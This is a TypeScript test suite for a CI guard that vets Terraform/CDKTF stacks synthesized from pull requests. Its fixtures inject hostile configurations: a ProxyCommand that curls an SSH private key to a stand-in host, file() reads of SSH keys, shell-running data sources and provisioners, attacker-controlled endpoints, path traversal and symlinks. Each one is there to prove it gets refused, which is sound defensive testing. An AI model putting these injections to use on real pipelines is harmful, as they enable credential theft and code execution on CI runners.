// The preview guard: trusted code checks the stacks a pull request synthesized before the engine plans them
// with the preview's credentials. Real synthesized stacks of both blueprints pass; each way a PR could turn a
// plan into code execution or exfiltration is refused, named with its stack and JSON path, all at once.
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { calledFunctions, templateExpressions } from "../tools/ci/expressions";
import { GuardError, guardStacks, GuardOptions, writeVetted } from "../tools/ci/guard";
import { parseTrustedList, trustedListOf } from "../tools/ci/trusted";
import { synthesizedStacks } from "../tools/engine/stacks";
import { REPO_ROOT, toolchainEnv } from "../tools/engine/toolchain";
import { LITERALS_DIR } from "../stacks/literal-files";
import { synthesize } from "../stacks/synthesize";
import { readStackConfig } from "../tools/engine/variables";

const PINS = { "kreuzwerker/docker": "3.6.2", "integrations/github": "6.9.0" };

describe("the preview guard on synthesized stacks", () => {
  let root = "";
  let pristine = "";
  let pr = "";
  let options: GuardOptions;
  const edit = (stack: string, change: (config: any) => void) => {
    const file = path.join(pr, "stacks", stack, "cdk.tf.json");
    const config = JSON.parse(fs.readFileSync(file, "utf8"));
    change(config);
    fs.writeFileSync(file, JSON.stringify(config));
  };
  const problems = () => {
    try {
      guardStacks(options);
      return [];
    } catch (e) {
      expect(e).toBeInstanceOf(GuardError);
      return (e as GuardError).problems;
    }
  };

  beforeAll(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), "sparky-guard-"));
    pristine = path.join(root, "synth");
    synthesize({ env: toolchainEnv({ ...process.env, SPARKY_TARGET: "dgx" }), projectRoot: REPO_ROOT, outdir: pristine });
    const relativeToRoot = (stack: { dir: string }, file: string) => path.relative(REPO_ROOT, path.dirname(path.resolve(stack.dir, file)));
    const trusted = parseTrustedList(JSON.stringify(trustedListOf(synthesizedStacks(pristine), relativeToRoot)));
    options = { synthesized: "", trusted, pins: PINS, projectRoot: REPO_ROOT };
  });
  beforeEach(() => {
    pr = fs.mkdtempSync(path.join(root, "pr-"));
    fs.cpSync(pristine, pr, { recursive: true });
    options = { ...options, synthesized: pr, plannedIn: pr };
  });
  afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

  test("every stack of both blueprints passes with the trusted list printed for them", () => {
    expect(options.trusted.dockerHosts.map((h) => h.host)).toEqual(["ssh://ubuntu@dgx-spark"]);
    expect(options.trusted.githubRepositories).toEqual(["raibid-labs/dgx-pixels", "raibid-labs/sparky"]);
    expect(guardStacks(options).map((s) => s.name)).toEqual(synthesizedStacks(pristine).map((s) => s.name));
  });

  test("another provider, another version, a provisioner, a module, a data source and a file() call: each named, all at once", () => {
    edit("sparky-services", (c) => {
      c.terraform.required_providers.external = { source: "hashicorp/external", version: "2.3.4" };
      c.data = { external: { x: { program: ["sh", "-c", "env"] } } };
      c.module = { m: { source: "git::https://example.test/m.git" } };
      const ollama = c.resource.docker_container.ollama;
      ollama.provisioner = [{ "local-exec": { command: "id" } }];
      ollama.labels = [{ label: "k", value: '${file("~/.ssh/id_ed25519")}' }];
    });
    edit("sparky-github", (c) => (c.terraform.required_providers.github.version = "6.10.0"));
    expect(problems()).toEqual([
      expect.stringMatching(
        /^sparky-github: terraform\.required_providers\.github: version "6\.10\.0" of integrations\/github is not the pinned 6\.9\.0$/,
      ),
      expect.stringMatching(/^sparky-services: module: "module" blocks are not allowed/),
      expect.stringMatching(
        /^sparky-services: terraform\.required_providers\.external: "hashicorp\/external" is not one of the pinned providers/,
      ),
      expect.stringMatching(/^sparky-services: resource\.docker_container\.ollama\.provisioner: provisioner blocks are not allowed/),
      expect.stringMatching(/^sparky-services: data\.external: a preview does not read this data source/),
      expect.stringMatching(/^sparky-services: resource\.docker_container\.ollama\.labels\.0\.value: calls file\(\)/),
    ]);
  });

  test("endpoints come only from the trusted list: docker host and ssh_opts, github base_url, backend", () => {
    edit("sparky-services", (c) =>
      c.provider.docker[0].ssh_opts.push("-o", "ProxyCommand=sh -c 'curl -d @$HOME/.ssh/id_ed25519 example.test'"),
    );
    edit("dgx-pixels-services", (c) => (c.provider.docker[0].host = "ssh://root@attacker.example.test"));
    edit("sparky-github", (c) => (c.provider.github[0].base_url = "https://attacker.example.test/api/v3/"));
    edit("dgx-pixels-github", (c) => (c.terraform.backend = { pg: { conn_str: "postgres://x@attacker.example.test/db" } }));
    edit("dgx-observability", (c) => (c.terraform.backend.pg.conn_str = "postgres://x@attacker.example.test/db"));
    edit("sparky-github", (c) => (c["//"].sparky.stateServer.dockerHost = "ssh://root@attacker.example.test"));
    expect(problems()).toEqual([
      expect.stringMatching(/^dgx-observability: terraform\.backend\.pg: .* is not in the trusted list's backends/),
      expect.stringMatching(/^dgx-pixels-github: terraform\.backend\.pg: .* is not in the trusted list's backends/),
      expect.stringMatching(
        /^dgx-pixels-services: provider\.docker\[0\]: host "ssh:\/\/root@attacker\.example\.test" .* is not in the trusted list's dockerHosts/,
      ),
      expect.stringMatching(
        /^sparky-github: provider\.github\[0\]\.base_url: "https:\/\/attacker\.example\.test\/api\/v3\/" is not in the trusted list's githubBaseUrls/,
      ),
      expect.stringMatching(
        /^sparky-github: \/\/\.sparky\.stateServer: host "ssh:\/\/root@attacker\.example\.test" .* is not in the trusted list's dockerHosts/,
      ),
      expect.stringMatching(/^sparky-services: provider\.docker\[0\]: host .*ProxyCommand.* is not in the trusted list's dockerHosts/),
    ]);
  });

  test("the REST API data source reads only the trusted repositories' issues, variables and files", () => {
    edit("dgx-pixels-github", (c) => {
      const reads = c.data.github_rest_api;
      reads["issue-numbers"].endpoint = "repos/raibid-labs/private-keys/actions/variables/SPARKY_INFRA_ISSUE_NUMBERS";
      reads["issue-labels"].endpoint = "repos/raibid-labs/dgx-pixels/contents/../../sparky-secrets/contents/.env";
      reads.extra = { endpoint: "orgs/raibid-labs/members", depends_on: [] };
      // A person's file at a generated path, read so the preview shows both versions: allowed.
      reads["conflict-CLAUDE-md"] = { endpoint: "repos/raibid-labs/dgx-pixels/contents/CLAUDE.md?ref=main" };
      c.data.github_user.caller.username = "octocat";
    });
    expect(problems()).toEqual([
      'dgx-pixels-github: data.github_rest_api.issue-labels.endpoint: "repos/raibid-labs/dgx-pixels/contents/../../sparky-secrets/contents/.env" is not an endpoint a preview reads (repos/<owner>/<name>/ then issues/${each.value}, actions/variables/<NAME> or contents/<path>?ref=<branch>)',
      "dgx-pixels-github: data.github_rest_api.issue-numbers.endpoint: raibid-labs/private-keys is not in the trusted list's githubRepositories",
      "dgx-pixels-github: data.github_rest_api.extra.depends_on: not allowed in a preview (allowed: endpoint, for_each)",
      'dgx-pixels-github: data.github_rest_api.extra.endpoint: "orgs/raibid-labs/members" is not an endpoint a preview reads (repos/<owner>/<name>/ then issues/${each.value}, actions/variables/<NAME> or contents/<path>?ref=<branch>)',
      'dgx-pixels-github: data.github_user.caller.username: must be "" (the caller): a preview reads no other account',
    ]);
  });

  test("provider settings beyond the endpoint, a non-sensitive variable and a manifest that points outside are refused", () => {
    edit("sparky-services", (c) => {
      c.provider.docker[0].cert_path = "/home/runner/.ssh";
      c.variable = { ...c.variable, PATH: { type: "string" } };
    });
    const manifestFile = path.join(pr, "manifest.json");
    const manifest = JSON.parse(fs.readFileSync(manifestFile, "utf8"));
    manifest.stacks["sparky-github"].workingDirectory = "../../../etc";
    fs.writeFileSync(manifestFile, JSON.stringify(manifest));
    expect(problems()).toEqual([
      'manifest.json: stacks.sparky-github: workingDirectory "../../../etc" must be "stacks/sparky-github"',
      expect.stringMatching(/^sparky-services: provider\.docker\[0\]\.cert_path: not allowed in a preview/),
      expect.stringMatching(/^sparky-services: variable\.PATH: must be sensitive/),
    ]);
  });

  test("a symlinked stack file is refused (it could point the engine anywhere on the runner)", () => {
    const file = path.join(pr, "stacks", "sparky-github", "cdk.tf.json");
    fs.renameSync(file, `${file}.real`);
    fs.symlinkSync(`${file}.real`, file);
    expect(problems()).toEqual(["sparky-github: cdk.tf.json: missing, or not a regular file in a regular directory"]);
  });

  test("the vetted copy holds the manifest, each cdk.tf.json and the literals written from it, none of the PR's other files", () => {
    const stackDir = path.join(pr, "stacks", "sparky-services");
    fs.mkdirSync(path.join(stackDir, ".terraform", "providers"), { recursive: true });
    fs.writeFileSync(path.join(stackDir, ".terraform", "providers", "terraform-provider-docker_v3.6.2"), "#!/bin/sh\nid\n");
    fs.writeFileSync(path.join(stackDir, "extra.tf"), 'data "external" "x" { program = ["id"] }');
    fs.writeFileSync(path.join(stackDir, "x.auto.tfvars.json"), "{}");
    fs.mkdirSync(path.join(stackDir, LITERALS_DIR), { recursive: true });
    fs.writeFileSync(path.join(stackDir, LITERALS_DIR, "unreferenced.txt"), "not the PR's to hand over");
    const out = path.join(pr, "vetted");
    writeVetted(guardStacks(options), out);
    const files = fs.readdirSync(out, { recursive: true }).map(String).sort();
    expect(files.filter((f) => f.endsWith(".json"))).toEqual([
      "manifest.json",
      ...synthesizedStacks(pristine)
        .map((s) => path.join("stacks", s.name, "cdk.tf.json"))
        .sort(),
    ]);
    const literals = files.filter((f) => f.endsWith(".txt"));
    expect(literals.length).toBeGreaterThan(0);
    for (const f of literals) {
      expect(f).toMatch(new RegExp(`^stacks/[\\w-]+/${LITERALS_DIR}/[0-9a-f]{64}\\.txt$`));
      expect(
        createHash("sha256")
          .update(fs.readFileSync(path.join(out, f)))
          .digest("hex"),
      ).toBe(path.basename(f, ".txt"));
    }
    expect(
      files.filter((f) => !f.endsWith(".json") && !f.endsWith(".txt")).every((f) => fs.statSync(path.join(out, f)).isDirectory()),
    ).toBe(true);
    for (const s of synthesizedStacks(out)) expect(readStackConfig(s.dir)).toEqual(readStackConfig(path.join(pristine, "stacks", s.name)));
    expect(synthesizedStacks(out).map((s) => s.dependencies)).toEqual(synthesizedStacks(pristine).map((s) => s.dependencies));
    expect(() => writeVetted([], out)).toThrow(/exists/);
  });

  test("a literal file changed after synth, or replaced by a symlink, is refused", () => {
    const literalsOf = (stack: string) => path.join(pr, "stacks", stack, LITERALS_DIR);
    const [changed] = fs.readdirSync(literalsOf("sparky-github"));
    fs.appendFileSync(path.join(literalsOf("sparky-github"), changed), '\n${file("~/.ssh/id_ed25519")}');
    const [linked] = fs.readdirSync(literalsOf("dgx-observability"));
    fs.rmSync(path.join(literalsOf("dgx-observability"), linked));
    fs.symlinkSync("/etc/hostname", path.join(literalsOf("dgx-observability"), linked));
    expect(problems()).toEqual([
      `dgx-observability: ${LITERALS_DIR}: dgx-observability/${LITERALS_DIR}/${linked} is not a regular file in a regular directory`,
      `sparky-github: ${LITERALS_DIR}: sparky-github/${LITERALS_DIR}/${changed} was changed after synth (its sha256 differs): synthesize again`,
    ]);
  });
});

describe("the trusted list", () => {
  test("comes from a variable; unset, not JSON, or the wrong shape is a clear error", () => {
    expect(() => parseTrustedList(undefined)).toThrow(
      /SPARKY_TRUSTED_ENDPOINTS is not set: set it as a variable of the protected Environment/,
    );
    expect(() => parseTrustedList("{")).toThrow(/is not JSON/);
    expect(() => parseTrustedList('{"dockerHosts":[{"host":""}],"backends":[],"extra":1}')).toThrow(/dockerHosts\.0\.host.*\n.*backends/s);
  });
});

describe("template expressions", () => {
  test("finds ${...} and %{...}, skips $${ and %%{ escapes, nested braces and strings", () => {
    expect(templateExpressions('a ${var.x} $${not} %{ if x }y%{ endif } ${jsonencode({ a = "}" })} %%{no}')).toEqual([
      "var.x",
      " if x ",
      " endif ",
      'jsonencode({ a = "}" })',
    ]);
    expect(calledFunctions('merge(local.a, { b = "file(x)" }, provider::docker::f(1))')).toEqual(["merge", "provider::docker::f"]);
  });

  test("PromQL and other text outside templates is not an expression", () => {
    expect(templateExpressions("expr: rate(node_cpu_seconds_total[5m]) > 0.9")).toEqual([]);
  });
});
